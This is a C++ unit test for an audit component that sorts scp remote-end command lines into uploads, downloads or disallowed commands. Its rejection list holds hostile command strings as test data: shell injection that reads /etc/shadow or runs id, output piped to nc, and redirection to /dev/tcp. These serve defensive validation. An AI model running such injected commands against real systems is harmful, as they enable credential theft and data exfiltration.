// ScpTransferDirection / IsScpTransferCommand: which exec command lines are
// scp's remote end, and which way they copy.
#include "audit/scp_command.h"

#include <string>
#include <utility>
#include <vector>

#include "gtest/gtest.h"

namespace sallyport::audit {
namespace {

// scp's remote end as OpenSSH runs it is a file transfer, kept as counts
// only; a command line that could run anything else is not, so a user
// cannot hide a command's output behind "scp -f x;".
TEST(ScpCommandTest, OnlyAPlainScpRemoteEndIsAFileTransfer) {
  const std::vector<std::pair<std::string, std::string>> transfers = {
      {"scp -t /tmp/in", "upload"},
      {"scp -f /tmp/out", "download"},
      {"scp -v -r -p -d -t -- /srv/tree", "upload"},
      {"scp -rf /srv/tree", "download"},
      {"scp -f /tmp/with space", "download"},
      {"scp -f *.log", "download"},
      {"scp  -t  /tmp/x", "upload"},
  };
  for (const auto& [command, direction] : transfers) {
    EXPECT_EQ(ScpTransferDirection(command), direction) << command;
    EXPECT_TRUE(IsScpTransferCommand(command)) << command;
  }
  for (const char* command : {"scp -f x; cat /etc/shadow",
                              "scp -f x && id",
                              "scp -f x | nc h 1",
                              "scp -f $(id)",
                              "scp -f `id`",
                              "scp -f x > /dev/tcp/h/1",
                              "scp -f x\nid",
                              "scp -f x\rid",
                              "scp -f 'x'",
                              "scp -f \"x\"",
                              "scp -f x\\;id",
                              "scp -f {a,b}",
                              "scp -f (x)",
                              "scp -t -f x",
                              "scp -t",
                              "scp -t --",
                              "scp -r x",
                              "scp",
                              "scp --version",
                              "scp -3 -t x",
                              "/usr/bin/scp -t x",
                              "sudo scp -t x",
                              "scpx -t y",
                              "",
                              "ls -t x",
                              "scp - -t x",
                              " scp -f /"}) {
    EXPECT_EQ(ScpTransferDirection(command), "") << command;
    EXPECT_FALSE(IsScpTransferCommand(command)) << command;
  }
}

}  // namespace
}  // namespace sallyport::audit
